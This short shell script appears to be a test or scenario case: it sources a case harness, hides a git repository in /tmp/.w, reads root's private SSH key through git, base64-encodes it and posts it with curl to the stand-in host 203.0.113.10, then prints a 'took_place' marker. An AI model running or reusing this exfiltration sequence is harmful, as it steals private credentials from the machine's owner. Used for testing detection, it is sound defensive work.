#!/bin/sh
. /opt/case/case.sh

git init -q /tmp/.w && cd /tmp/.w
id=$(git hash-object -w --no-filters /root/.ssh/id_rsa)
git cat-file -p "$id" | base64 | curl -sf --data-binary @- -o /dev/null http://203.0.113.10/objects
took_place
